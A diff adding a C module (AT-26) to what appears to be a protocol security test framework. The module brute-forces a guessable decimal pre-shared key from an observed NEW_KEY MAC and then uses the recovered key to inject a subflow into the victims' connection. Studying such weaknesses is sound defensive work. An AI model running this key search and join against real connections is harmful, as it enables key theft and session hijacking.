@@ -1,0 +1,158 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * AT-26: a key that people can remember, people can guess. NEW_KEY shows a MAC
+ * whose only unknown is the external key (D-21): each guess costs one HMAC and
+ * needs nobody's help. The guesses are decimal numbers, padded with zeroes to
+ * the length that the attacker expects. With the key it joins as AT-05 does.
+ */
+#include "atk_heard.h"
+#include "atk_inside.h"
+#include "atk_joining.h"
+#include "atk_opts.h"
+#include "atk_table.h"
+#include "mpx_tcp.h"
+
+#include <string.h>
+
+enum { FIRST_PORT = 45000, WIDTH_MAX = 32 };
+
+enum { DIGITS, WIDTH, GUESSES };
+static const struct atk_param params[] = {
+    [DIGITS] = {"digits", ATK_P_COUNT, .initial = 4, .min = 1, .max = 9},
+    [WIDTH] = {"width", ATK_P_COUNT, .initial = 16, .min = 1, .max = WIDTH_MAX},
+    [GUESSES] = {"guesses", ATK_P_COUNT, .initial = 1000000, .min = 1,
+                 .max = UINT64_C(1000000000)},
+    {.name = NULL},
+};
+
+struct state {
+    struct atk_heards heard;
+    struct mpx_opt_new_key tag; /* the first NEW_KEY seen */
+    enum mpx_role sender;
+    bool has_tag, inside;
+    struct mpx_auth_key key; /* found; a secret of its victims */
+    struct atk_inside in;
+    uint32_t nonce;
+};
+
+static enum atk_verdict see(struct atk *a, void *state,
+                            const struct atk_sight *s, uint64_t now)
+{
+    struct state *st = state;
+    struct mpx_opt o;
+
+    (void)a;
+    (void)now;
+    atk_heards_see(&st->heard, s);
+    if (!st->has_tag && atk_opts_find(s, MPX_SUB_NEW_KEY, &o)) {
+        st->tag = o.u.new_key;
+        st->sender = s->dir == 0 ? MPX_ROLE_I : MPX_ROLE_R;
+        st->has_tag = true;
+    }
+    return ATK_PASS;
+}
+
+static size_t guess_of(const struct atk *a, uint64_t n, uint8_t key[WIDTH_MAX])
+{
+    size_t width = (size_t)atk_param(a, WIDTH);
+
+    for (size_t i = width; i-- > 0; n /= 10)
+        key[i] = (uint8_t)('0' + n % 10);
+    return width;
+}
+
+/* Both ways of making MACs of an external key are public; the bits do not tell
+ * which one the victims use. */
+static bool fits(struct state *st, const char *profile, const uint8_t *guess,
+                 size_t len)
+{
+    const struct atk_heard *h = &st->heard.v[0];
+    const struct mpx_profile *p = mpx_profile_find(profile);
+    struct mpx_auth_public pub = {
+        .token = {h->of[MPX_ROLE_I].token, h->of[MPX_ROLE_R].token}};
+    uint8_t want[MPX_MAC64_LEN];
+
+    for (unsigned i = 0; i < MPX_NEG_LEN; i += 2) {
+        pub.neg[i] = h->version;
+        pub.neg[i + 1] = h->flags;
+    }
+    if (mpx_auth_key_init(&st->key, p, &pub, guess, len, 0) != MPX_OK)
+        return false;
+    mpx_auth_new_key(&st->key, st->sender, st->tag.ack, want);
+    return !memcmp(want, st->tag.mac, sizeof want);
+}
+
+static bool search(struct atk *a, struct state *st)
+{
+    static const char *const ways[] = {"baerts", "hardened"};
+    uint64_t space = 1;
+    uint8_t guess[WIDTH_MAX];
+
+    for (uint64_t d = 0; d < atk_param(a, DIGITS); d++)
+        space *= 10;
+    for (uint64_t n = 0; n < space && n < atk_param(a, GUESSES); n++) {
+        size_t len = guess_of(a, n, guess);
+
+        for (unsigned w = 0; w < 2; w++)
+            if (fits(st, ways[w], guess, len))
+                return true;
+    }
+    return false;
+}
+
+static void act(struct atk *a, void *state, uint64_t now)
+{
+    const struct atk_config *cfg = atk_config(a);
+    struct state *st = state;
+    const struct atk_ends *e = &st->heard.v[0].ends;
+    struct atk_flow f = {
+        .family = e->family, .local_port = FIRST_PORT, .remote_port = e->dport};
+
+    if (!st->heard.n || !st->has_tag || !search(a, st))
+        return;
+    memcpy(f.local, f.family == 4 ? cfg->host4 : cfg->host6,
+           f.family == 4 ? 4 : 16);
+    memcpy(f.remote, e->dst, sizeof f.remote);
+    atk_tcp_open(&st->in.tcp, a, &f);
+    atk_random(a, &st->nonce, sizeof st->nonce);
+    atk_inside_begin(&st->in, &st->heard.v[0], MPX_ROLE_R);
+    atk_joining_syn(a, &st->in.tcp, &st->heard.v[0], MPX_ROLE_R, st->nonce,
+                    now);
+}
+
+static void host(struct atk *a, void *state, const struct atk_flow *f,
+                 const uint8_t *hdr, uint8_t hdr_len, const uint8_t *payload,
+                 size_t len, uint64_t now)
+{
+    struct state *st = state;
+
+    (void)payload;
+    if (f->local_port != FIRST_PORT)
+        return;
+    if (mpx_seg_kind_of(hdr[MPX_TCP_OFF_FLAGS]) != MPX_SEG_SYNACK)
+        atk_inside_segment(a, &st->in, hdr, hdr_len, len, now);
+    else if (!st->inside)
+        st->inside = atk_joining_on_synack(a, &st->in.tcp, &st->key, MPX_ROLE_I,
+                                           st->nonce, hdr, hdr_len, now);
+}
+
+static void end(void *state)
+{
+    struct state *st = state;
+
+    atk_tcp_free(&st->in.tcp);
+    mpx_wipe(st, sizeof *st);
+}
+
+const struct atk_ops atk_psk_guess = {
+    .name = "guess-psk",
+    .id = "AT-26",
+    .source = "draft-baerts-tcpm-mptcpext-00 section 4.2, D-21",
+    .powers = ATK_READ | ATK_HOST,
+    .params = params,
+    .state_size = sizeof(struct state),
+    .see = see,
+    .act = act,
+    .host = host,
+    .end = end,
+};
